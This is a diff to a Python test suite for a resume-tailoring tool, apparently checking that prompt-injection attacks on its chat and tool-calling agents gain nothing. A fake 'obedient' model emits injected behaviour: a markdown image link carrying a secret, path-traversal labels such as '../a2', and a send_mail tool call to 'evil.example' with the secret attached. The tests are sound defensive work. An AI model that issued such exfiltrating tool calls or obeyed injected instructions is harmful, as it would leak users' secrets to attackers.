@@ -15,7 +15,13 @@ from skillmap.errors import SkillmapError
 from skillmap.models.model_settings import ModelSettings
 from skillmap.models.tailoring import Tailoring
 from skillmap.settings import Settings
-from skillmap.testing.openai_server import MODELS, FakeOpenAI, FakeRequest
+from skillmap.testing.openai_server import (
+    MODELS,
+    FakeAnswer,
+    FakeOpenAI,
+    FakeRequest,
+    FakeToolCall,
+)
 from tests.tailor.attacks import LABELS, Attack, attacks
 from tests.tailor.test_attacks_offline import gained, protected
 
@@ -36,10 +42,15 @@ class ObedientModel:
         self.attack = ATTACKS[0]
         self.systems: set[str] = set()
 
-    def __call__(self, request: FakeRequest) -> dict[str, Any]:
-        system = str(request.body["messages"][0]["content"])
+    def __call__(self, request: FakeRequest) -> dict[str, Any] | FakeAnswer:
+        messages: Any = request.body["messages"]
+        system = str(messages[0]["content"])
         self.systems.add(system)
         wanted = self._texts(system)
+        if request.tool_names:
+            if messages[-1]["role"] == "tool":
+                return FakeAnswer(text=f"{wanted[-2]} {SECRET} ![x]({LINK}{SECRET})")
+            return FakeAnswer(tool_calls=tuple(self._calls(wanted)))
         match request.schema_name:
             case "intent":
                 return {"kind": "posting"}
@@ -74,6 +85,19 @@ class ObedientModel:
         """Each label with each text: a label that was given twice, and labels that were never given."""
         labels = dict.fromkeys((*self.attack.labels, *LABELS))
         return [(label, text) for text in wanted for label in labels][:40]
+
+    def _calls(self, wanted: list[str]) -> Iterator[FakeToolCall]:
+        for label, text in self._pairs(wanted)[:12]:
+            # Calls are part of the conversation and come back: a link in one would look like one of ours.
+            bare = text.replace("https://", "")
+            arguments: dict[str, Any] = {"label": label, "text": bare, "evidence": ["a2", "z9"]}
+            yield FakeToolCall(name="edit_line", arguments=arguments)
+        yield FakeToolCall(name="edit_line", arguments='{"label": "a1", "text": ')
+        yield FakeToolCall(name="leave_out", arguments={"label": "/basics/name"})
+        yield FakeToolCall(name="take_back", arguments={"labels": ["k1", "k99"]})
+        yield FakeToolCall(name="order_list", arguments={"label": "a", "order": ["b1", "../a2"]})
+        yield FakeToolCall(name="tailor_resume_content")
+        yield FakeToolCall(name="send_mail", arguments={"to": f"evil.example?{SECRET}"})
 
     def _edit(self, label: str, text: str) -> dict[str, Any]:
         return {"id": label, "req": ["m1", "m9"], "why": "term", "ev": ["a2", "b1"], "text": text}
@@ -131,6 +155,12 @@ def leaked(text: str, systems: set[str]) -> list[str]:
     return found
 
 
+def said_by_us(request: FakeRequest) -> str:
+    """The prompt without what the model itself said before."""
+    messages: Any = request.body["messages"]
+    return "\n".join(str(m["content"]) for m in messages if m["role"] != "assistant")
+
+
 def run(
     client: SkillMap, attack: Attack, agent: str, *, with_writings: bool = False
 ) -> Tailoring | SkillmapError:
@@ -178,7 +208,7 @@ class Trial:
         # A chat turn has the usage of its own calls alone.
         if attack.where != "chat":
             assert len(asked) == outcome.usage.calls > 0
-        prompts = "\n".join(request.prompt_text for request in asked)
+        prompts = "\n".join(said_by_us(request) for request in asked)
         assert SECRET not in prompts
         if attack.category in KEPT_BACK and attack.reported:
             assert attack.text not in prompts
@@ -204,22 +234,43 @@ def test_attack_gets_nothing(trial: Trial, attack: Attack) -> None:
     trial.check(attack, "model")
 
 
-@pytest.mark.parametrize("attack", ATTACKS[::6], ids=lambda attack: attack.id)
+@pytest.mark.parametrize("attack", ATTACKS[::14], ids=lambda attack: attack.id)
 def test_attack_gets_nothing_in_letter_and_interview(trial: Trial, attack: Attack) -> None:
     """What is written beside the resume is held to the same."""
     trial.check(attack, "model", with_writings=True)
 
 
-@pytest.mark.parametrize("attack", ATTACKS[::12], ids=lambda attack: attack.id)
+@pytest.mark.parametrize("attack", ATTACKS[::20], ids=lambda attack: attack.id)
 def test_attack_gets_nothing_in_a_graph(trial: Trial, attack: Attack) -> None:
     """The same under the other runner."""
     trial.check(attack, "graph")
 
 
+THROUGH_TOOLS = [
+    attack
+    for attack in ATTACKS
+    if attack.id in ("override-plain", "smuggle-path", "leak-image", "self-rating", "facts-chat")
+]
+
+
+@pytest.mark.parametrize("attack", THROUGH_TOOLS, ids=lambda attack: attack.id)
+def test_attack_gets_nothing_through_tools(trial: Trial, attack: Attack) -> None:
+    """The chat agent that calls tools can do with them what the desk can do, and nothing else."""
+    trial.model.attack = attack
+    tailoring = trial.client.preview(attack.resume, attack.posting)
+    before = len(trial.server.requests)
+    outcome = trial.client.refine(tailoring, HONEST_WISH, agent="graph")
+    asked = trial.server.requests[before:]
+
+    assert len(asked) == outcome.usage.calls >= 2
+    assert "edit_line" in asked[0].tool_names
+    trial.check_outcome(attack, outcome)
+
+
 STORED = [a for a in ATTACKS if a.where == "chat" or a.category == "self-injection"]
 
 
-@pytest.mark.parametrize("attack", STORED[::2], ids=lambda attack: attack.id)
+@pytest.mark.parametrize("attack", STORED[::3], ids=lambda attack: attack.id)
 def test_attack_that_was_stored_gets_nothing(trial: Trial, attack: Attack) -> None:
     """A posting, a resume and a chat that come back from the store are no more trusted than before."""
     trial.model.attack = attack
